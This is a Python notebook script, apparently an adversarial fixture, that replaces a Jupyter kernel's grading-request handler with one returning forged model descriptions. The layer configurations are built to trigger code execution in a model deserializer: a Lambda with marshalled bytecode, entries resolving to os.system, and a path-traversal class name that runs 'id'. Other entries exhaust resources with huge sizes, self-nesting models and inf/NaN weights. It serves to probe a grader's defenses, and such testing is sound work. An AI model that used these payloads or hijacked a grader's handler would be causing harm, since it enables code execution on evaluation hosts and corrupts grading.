# /// attack
# title = "Forges descriptions of models: layers that run code, paths, classes of its own, weights of 10^12, graphs without end"
# exercise = "gates"
# ///

# %%
import copy

kernel = get_ipython().kernel
LAYER = {
    "class": "Dense", "own": False, "operation": False, "name": "d", "trainable": True, "activations": {}, "input": [None, 2],
    "config": {"units": 1}, "output": [None, 1], "param_count": 3, "weight_shapes": [[2, 1], [1]],
    "weights": [["kernel", 0], ["bias", 1]], "nodes": None, "model": None,
}
MODEL = {
    "k": "model", "id": 1, "type": "Sequential", "param_count": 3, "trainable_count": 3, "compiled": None,
    "weights": [{"k": "array", "dtype": "float32", "shape": [2, 1], "b": 0}, {"k": "array", "dtype": "float32", "shape": [1], "b": 1}],
    "model": {
        "style": "Sequential", "class": "Sequential", "name": "s", "built": True, "layers": [LAYER], "input_layers": None, "output_layers": None,
        "inputs": [{"shape": [None, 2], "dtype": "float32", "name": "x"}], "outputs": [{"shape": [None, 1], "dtype": "float32", "name": "y"}],
    },
}
LAYERS = [
    {"class": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "4wAAAA==", "defaults": None}}}},
    {"class": "TFSMLayer", "config": {"filepath": "@CANARY_FILE@", "call_endpoint": "serve"}},
    {"class": "TorchModuleWrapper", "config": {"module": "os.system"}},
    {"class": "../../os", "config": {"module": "os", "class_name": "system", "config": {"command": "id"}}},
    {"class": "__import__", "config": {"units": 10**6}},
    {"config": {"units": 10**6, "kernel_initializer": {"module": "os", "class_name": "system"}}},
    {"class": "UpSampling2D", "config": {"size": [10_000, 10_000]}, "weights": []},
    {"class": "RepeatVector", "config": {"n": 1_000_000}, "weights": []},
    {"activations": {"activation": {"layer": "Softmax", "config": {"axis": 10**6}}}},
    {"activations": {"activation": {"own": "knows_the_labels"}}},
    {"weights": [["kernel", 99], ["bias", 1]]},
    {"model": "itself"},
    {"nodes": [{"args": [{"tensor": ["d", 0, 0]}], "kwargs": {}}]},
]
turn = iter(range(10**6))


async def forging(stream, ident, parent):
    model = copy.deepcopy(MODEL)
    change = LAYERS[next(turn) % len(LAYERS)]
    model["model"]["layers"][0] |= copy.deepcopy(change)
    if "nodes" in change:
        model["model"] |= {"style": "Functional", "input_layers": ["d", 0, 0], "output_layers": ["d", 0, 0]}
    if change.get("model"):
        inner = model["model"]
        for _ in range(30):
            inner["layers"][0]["model"] = copy.deepcopy(MODEL["model"])
            inner = inner["layers"][0]["model"]
    buffers = [b"\0\0\x80\x7f" * 2, b"\0\0\xc0\x7f"]  # inf, inf and NaN
    kernel.session.send(stream, "gradetape_reply", {"ok": True, "value": model, "figures": 0}, parent, ident=ident, buffers=buffers)


# %%
print("TRIED to have its description run code in the grader")
kernel.shell_handlers["gradetape_request"] = forging
